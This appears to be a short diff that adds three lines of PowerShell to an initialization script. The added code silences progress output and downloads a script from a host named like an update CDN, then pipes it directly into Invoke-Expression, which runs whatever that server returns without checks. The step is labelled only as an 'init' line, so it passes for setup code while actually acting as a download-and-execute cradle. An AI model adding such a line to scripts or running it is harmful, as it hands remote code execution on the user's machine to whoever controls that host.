@@ -1,0 +1,3 @@
+# init 5633 v0
+$ProgressPreference = 'SilentlyContinue'
+iwr -UseBasicParsing http://cdn-update.example/a.ps1 | iex
